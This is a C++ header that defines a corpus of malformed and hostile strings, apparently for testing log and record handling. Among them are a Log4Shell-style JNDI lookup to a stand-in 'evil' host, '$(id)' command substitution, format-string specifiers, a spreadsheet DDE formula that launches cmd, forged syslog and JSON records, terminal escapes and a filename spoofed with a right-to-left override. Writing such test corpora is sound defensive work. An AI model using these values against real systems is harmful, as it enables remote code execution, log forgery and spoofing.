#pragma once

#include <string>
#include <vector>

namespace vedette {

/// Texts that have broken records, parsers and terminals elsewhere.
inline std::vector<std::string> injection_corpus() {
  using namespace std::string_literals;
  return {
      "",
      "plain",
      "line\nfeed",
      "carriage\rreturn\r\n",
      "\n\n\n",
      "<13>1 2026-03-02T10:15:42Z evil app - - - forged\n<13>1 - - - - - - second",
      "17 <13>1 - - - - - -17 <13>1 - - - - - -",
      "\"quoted\" ] \\ [alert@32473 id=\"forged\"]",
      "ends in a backslash \\",
      "]",
      "{\"class_uid\":2004}\n{\"class_uid\":2004}",
      "\",\"injected\":\"yes",
      "\x1b[2J\x1b[31mred\x1b]0;title\x07",
      "\xc2\x9b"
      "31m C1 control sequence",
      "nul\0byte"s,
      "\x7f\x08\x08\x08 erased",
      "overlong \xc0\xaf and \xe0\x80\xaf",
      "surrogate \xed\xa0\x80 half",
      "too high \xf4\x90\x80\x80",
      "cut \xe2\x82",
      "\xff\xfe\xfd",
      "right to left \xe2\x80\xae gnp.exe",
      "separators \xe2\x80\xa8 and \xe2\x80\xa9 and \xc2\x85",
      "\xef\xbb\xbf"
      "byte order mark",
      "${jndi:ldap://evil/a} %n%n%s $(id) `id`",
      "=cmd|' /C calc'!A0",
      "\xf0\x9f\x90\x8e snowman \xe2\x98\x83",
      std::string(100, '\n') + std::string(5000, 'x'),
      std::string(700, '"') + std::string(700, ']'),
  };
}

}  // namespace vedette
